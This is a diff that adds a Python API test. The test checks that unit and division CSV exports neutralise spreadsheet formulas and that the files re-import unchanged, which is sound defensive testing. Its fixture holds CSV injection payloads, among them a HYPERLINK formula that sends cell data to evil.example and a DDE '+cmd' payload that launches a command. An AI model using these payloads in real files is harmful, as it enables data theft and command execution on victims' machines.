@@ -71,3 +71,43 @@ async def test_units_export_as_geojson_points(client: httpx.AsyncClient, db: Dat
     feature = response.json()["features"][0]
     assert feature["geometry"] == {"type": "Point", "coordinates": [119.05, 27.55]}
     assert feature["properties"]["code"] == "TA"
+
+
+async def test_csv_exports_neutralise_formulas_and_import_them_back_unchanged(
+    client: httpx.AsyncClient, db: Database
+) -> None:
+    await make_county_with_two_towns(db)
+    admin = await bearer(client, "admin")
+    evil = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+        "address": "+cmd|' /C calc'!A0",
+        "phone": "-2+3",
+    }
+    units = (await client.get("/api/v1/units", headers=admin)).json()["items"]
+    ta = next(u for u in units if u["code"] == "TA")
+    assert (
+        await client.patch(f"/api/v1/units/{ta['id']}", headers=admin, json=evil)
+    ).status_code == 200
+    renamed = await client.patch(
+        "/api/v1/divisions/331126101000", headers=admin, json={"name": "@SUM(1+1)甲镇"}
+    )
+    assert renamed.status_code == 200
+
+    units_csv = await client.get("/api/v1/units:export", headers=admin)
+    row = next(r for r in rows(units_csv.text) if r["code"] == "TA")
+    assert (row["name"], row["address"], row["phone"]) == tuple(f"'{v}" for v in evil.values())
+    divisions_csv = await client.get("/api/v1/divisions:export", headers=admin)
+    town = next(r for r in rows(divisions_csv.text) if r["adcode"] == "331126101000")
+    assert town["name"] == "'@SUM(1+1)甲镇"
+
+    for kind, exported in (("units", units_csv), ("divisions", divisions_csv)):
+        back = await client.post(
+            f"/api/v1/{kind}:import",
+            headers=admin,
+            files={"file": (f"{kind}.csv", exported.content, "text/csv")},
+        )
+        assert back.status_code == 200, back.text
+    unit = (await client.get(f"/api/v1/units/{ta['id']}", headers=admin)).json()
+    assert {k: unit[k] for k in evil} == evil
+    division = (await client.get("/api/v1/divisions/331126101000", headers=admin)).json()
+    assert division["name"] == "@SUM(1+1)甲镇"
